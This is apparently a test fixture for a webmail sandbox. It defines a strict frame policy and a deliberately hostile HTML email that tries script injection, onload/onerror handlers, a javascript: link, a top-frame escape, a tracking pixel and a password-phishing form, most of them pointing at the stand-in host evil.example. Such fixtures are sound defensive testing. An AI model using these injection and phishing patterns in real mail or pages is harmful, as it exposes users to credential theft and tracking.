// A mail that tries everything. The server would have cleaned it; the frame alone must hold too.
export const FRAME_POLICY =
  "sandbox allow-popups allow-popups-to-escape-sandbox; default-src 'none'; img-src data:; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'; frame-ancestors 'self'";
export const HOSTILE_MAIL = `<!doctype html><html><head><base href="https://evil.example/">
<style>body{font:15px/1.5 Georgia,serif;margin:24px;background:#fff;color:#222}h1{color:#a03}</style></head>
<body onload="top.__pwned=1"><h1>You won</h1><script>parent.__pwned=1;top.__pwned=1</script>
<p>Dear reader, this is the html of a mail. It may look as it likes, inside its frame.</p>
<img src="https://evil.example/pixel.gif" onerror="top.__pwned=1" alt="a picture from elsewhere">
<p><a href="javascript:top.__pwned=1">press here</a> or <a href="https://evil.example/" target="_top">there</a></p>
<form action="https://evil.example/"><label>Password <input name="password"></label> <button>Sign in</button></form>
<iframe src="https://evil.example/frame" title="frame"></iframe></body></html>`;
